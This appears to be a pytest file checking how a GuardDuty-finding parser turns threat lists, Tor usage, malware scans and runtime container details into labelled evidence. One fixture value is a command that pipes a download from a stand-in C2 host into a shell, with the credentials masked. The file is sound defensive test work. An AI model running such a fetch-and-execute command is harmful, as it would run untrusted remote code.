"""Why GuardDuty says so: runtime, malware, threat lists, unusual behaviour, and what it adds next year."""

import json
import re
from pathlib import Path

import pytest

from chalicelib.finding.event import parse
from chalicelib.finding.model import Detail, Form
from chalicelib.settings import LANGUAGES
from chalicelib.text import words
from tests.generate import EVENTS, Json, envelope, example


def with_service(**service: Json) -> Json:
    least = {"id": "1", "type": "A:B/C", "severity": 5, "accountId": "111122223333", "region": "eu-west-1"}
    return envelope({**least, "service": service})


def said(event: Json, label: str) -> list[str]:
    return [detail.value for detail in parse(event).details if detail.label == label]


@pytest.mark.parametrize(
    ("name", "label", "values"),
    [
        pytest.param("example", "threat_list", ["Example threat list"], id="list-named-twice-posted-once"),
        pytest.param("ec2-port-probe", "threat_name", ["Scanner"], id="threat-of-additional-info"),
        pytest.param("iam-user-tor", "tor", ["yes"], id="tor"),
        pytest.param("example", "tor", [], id="no-tor"),
        pytest.param(
            "iam-user-anomaly",
            "unusual_api",
            ["ListUsers", "ListRoles", "ListUsers (AccessDenied)"],
            id="anomaly",
        ),
        pytest.param("iam-user-tor", "unusual_hour", ["3"], id="older-unusual"),
        pytest.param(
            "ebs-malware", "malware", ["Trojan.Example", "EICAR-Test-File"], id="worst-threat-first"
        ),
        pytest.param(
            "ebs-malware",
            "infected_file",
            ["/var/tmp/.x/kworker", "/home/ec2-user/eicar.com"],
            id="infected-files",
        ),
        pytest.param("ebs-malware", "files_infected", ["3"], id="counts"),
        pytest.param(
            "ebs-malware", "scan_completed", ["2026-11-20T08:40:00+00:00"], id="scan-time-in-millis"
        ),
        pytest.param("s3-object-malware", "malware", ["EICAR-Test-File (not a virus)"], id="object-malware"),
        pytest.param("s3-object-malware", "infected_file", ["invoice.zip/run.exe"], id="nested-file"),
        pytest.param("snapshot-malware", "infected_file", ["/opt/app/run"], id="snapshot-file"),
        pytest.param("runtime-container", "lineage", ["/usr/sbin/nginx", "/sbin/init"], id="lineage"),
        pytest.param("runtime-container", "socket", ["/var/run/docker.sock"], id="runtime-context"),
        pytest.param(
            "runtime-container",
            "command_line",
            ["sh -c 'curl -H \"Authorization: Bearer ••••\" https://c2.example.com | sh --token ••••'"],
            id="command-line-without-credentials",
        ),
        pytest.param("unknown-kind", "newMember.deep.deeper", ["value"], id="new-additional-info"),
        pytest.param(
            "unknown-kind", "entanglementDetails.partner", ["example-partner"], id="new-service-member"
        ),
        pytest.param("unknown-kind", "superposition.states", ["up", "down"], id="new-detection"),
        pytest.param("hostile", "apiToken", ["••••"], id="member-named-like-a-credential"),
        pytest.param("hostile", "channel", ["*bold*"], id="hostile-member-name"),
    ],
)
def test_evidence(name: str, label: str, values: list[str]) -> None:
    assert said(example(name), label) == values


@pytest.mark.parametrize(
    "name", [pytest.param("TorIPCaller", id="tor"), pytest.param("TorClient", id="client")]
)
def test_tor_by_type(name: str) -> None:
    event = with_service()
    event["detail"]["type"] = f"UnauthorizedAccess:EC2/{name}"
    assert said(event, "tor") == ["yes"]


@pytest.mark.parametrize(
    ("listed", "tor"),
    [
        pytest.param("Tor exit nodes", ["yes"], id="word"),
        pytest.param("Torrent trackers", [], id="torrent"),
        pytest.param("history", [], id="inside-a-word"),
    ],
)
def test_tor_by_list(listed: str, tor: list[str]) -> None:
    assert said(with_service(additionalInfo={"threatListName": listed}), "tor") == tor


def test_what_guardduty_adds_is_bounded() -> None:
    info = {f"member{number}": {"a": number, "b": [number] * 50} for number in range(5_000)}
    assert len(parse(with_service(additionalInfo=info)).details) == 25


def test_long_lists_say_how_many_more() -> None:
    threats = [{"name": f"Trojan.{number}"} for number in range(130)]
    details = parse(with_service(malwareScanDetails={"threats": threats})).details
    assert len(details) == 26
    assert details[-1] == Detail("more", "105", Form.TEXT)


@pytest.mark.parametrize(
    "wrong", [None, [], "x", 7, {"scanDetections": 7}, {"threats": "x"}, {"process": []}]
)
def test_wrong_shapes_say_less(wrong: Json) -> None:
    names = ("evidence", "ebsVolumeScanDetails", "malwareScanDetails", "runtimeDetails", "detection")
    finding = parse(with_service(**dict.fromkeys(names, wrong)))
    assert finding.processes == ()
    assert finding.action == ()


@pytest.mark.parametrize("nothing", ["null", "UNKNOWN", "Unknown", " ", None])
def test_what_says_nothing_is_no_detail(nothing: Json) -> None:
    scan = {"scanType": nothing, "threats": [{"name": nothing, "source": nothing}]}
    assert parse(with_service(malwareScanDetails=scan, newMember={"deep": nothing})).details == ()


@pytest.mark.parametrize("path", sorted(EVENTS.glob("*.json")), ids=lambda path: path.stem)
def test_constants_that_readers_see_as_words_have_words(path: Path) -> None:
    finding = parse(json.loads(path.read_text()))
    of_resources = [detail for resource in finding.resources for detail in resource.details]
    shown = [each for each in (*finding.action, *finding.details, *of_resources) if each.form is Form.TEXT]
    constants = {each.value for each in shown if re.fullmatch(r"[A-Z]{2}[A-Z_]+", each.value)}
    assert {each for each in constants for language in LANGUAGES if not words.value(each, language)} == set()
